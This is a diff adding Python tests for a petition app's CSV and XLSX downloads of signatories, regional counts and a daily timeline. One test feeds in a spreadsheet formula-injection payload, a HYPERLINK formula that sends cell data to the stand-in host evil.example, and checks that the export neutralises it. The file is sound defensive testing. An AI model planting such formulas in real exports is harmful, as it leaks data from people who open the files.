@@ -1,0 +1,100 @@
+"""CSV and XLSX downloads of named signatories and of counts by region and by day."""
+
+import csv
+import io
+
+from openpyxl import load_workbook
+
+from tests.base import PersonaTestCase, make_claims
+from undersigned.campaigns.actions import set_names_hidden
+from undersigned.signatures.actions import Claims
+from undersigned.signatures.models import Signature
+
+INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+class DownloadViewTest(PersonaTestCase):
+    def download(self, dataset: str, fmt: str, slug: str = "deputies") -> bytes:
+        response = self.client.get(f"/c/{slug}/data/{dataset}.{fmt}")
+        assert response.status_code == 200, response
+        assert f'filename="{slug}-{dataset}.{fmt}"' in response["Content-Disposition"]
+        assert "public" in response["Cache-Control"]
+        if response.streaming:
+            return b"".join(response.streaming_content)
+        return response.content
+
+    def csv_rows(self, dataset: str) -> list[list[str]]:
+        text = self.download(dataset, "csv").decode("utf-8-sig")
+        return list(csv.reader(io.StringIO(text)))
+
+    def xlsx_rows(self, dataset: str) -> list[tuple[object, ...]]:
+        workbook = load_workbook(io.BytesIO(self.download(dataset, "xlsx")))
+        return list(workbook.active.iter_rows(values_only=True))
+
+    def test_signatories_are_named_verified_only(self) -> None:
+        self.sign_verified(make_claims(1, "RU-IRK"))
+        self.sign_verified(make_claims(2), publication=Signature.ANONYMOUS)
+        self.sign(make_claims(3))
+        rows = self.csv_rows("signatories")
+        assert rows[0] == [
+            "full_name",
+            "office",
+            "body",
+            "municipality",
+            "region_code",
+            "region",
+            "verified_on",
+        ]
+        assert [r[0] for r in rows[1:]] == [make_claims(1).full_name]
+        assert rows[1][4] == "RU-IRK"
+        xlsx = self.xlsx_rows("signatories")
+        assert [r[0] for r in xlsx[1:]] == [make_claims(1).full_name]
+
+    def test_formula_injection_is_defused(self) -> None:
+        evil = Claims(
+            full_name=INJECTION,
+            office="+7 999",
+            body="@SUM(1)",
+            municipality="-2",
+            region_code="RU-MOW",
+        )
+        self.sign_verified(evil)
+        row = self.csv_rows("signatories")[1]
+        assert row[:4] == ["'" + INJECTION, "'+7 999", "'@SUM(1)", "'-2"]
+        cells = self.xlsx_rows("signatories")[1]
+        assert cells[:4] == ("'" + INJECTION, "'+7 999", "'@SUM(1)", "'-2")
+        workbook = load_workbook(io.BytesIO(self.download("signatories", "xlsx")))
+        assert all(cell.data_type == "s" for cell in workbook.active[2][:4])
+
+    def test_regions_and_timeline(self) -> None:
+        self.sign_verified(make_claims(1, "RU-IRK"))
+        self.sign(make_claims(2, "RU-IRK"))
+        self.refresh_counts()
+        regions = self.csv_rows("regions")
+        assert regions[0] == ["region_code", "region", "verified", "being_checked"]
+        assert regions[1][0] == "RU-IRK" and regions[1][2:] == ["1", "1"]
+        timeline = self.csv_rows("timeline")
+        assert timeline[0] == ["day", "received_total", "verified_total"]
+        assert timeline[-1][1:] == ["2", "1"]
+        assert self.xlsx_rows("regions")[1][2:] == (1, 1)
+
+    def test_hidden_names_and_unpublished_regions(self) -> None:
+        self.sign_verified(make_claims(1))
+        set_names_hidden(self.campaign, True, actor=self.organizer)
+        assert self.csv_rows("signatories") == [
+            ["full_name", "office", "body", "municipality", "region_code", "region", "verified_on"]
+        ]
+        quiet = self.make_campaign("quiet", publish_region_counts=False)
+        self.sign_verified(make_claims(2), quiet)
+        self.refresh_counts()
+        assert len(self.download("regions", "csv", "quiet").decode("utf-8-sig").splitlines()) == 1
+
+    def test_unknown_dataset_format_or_campaign_is_404(self) -> None:
+        self.make_campaign("secret-draft", open_it=False)
+        for url in (
+            "/c/deputies/data/contacts.csv",
+            "/c/deputies/data/signatories.json",
+            "/c/nope/data/regions.csv",
+            "/c/secret-draft/data/signatories.csv",
+        ):
+            assert self.client.get(url).status_code == 404, url
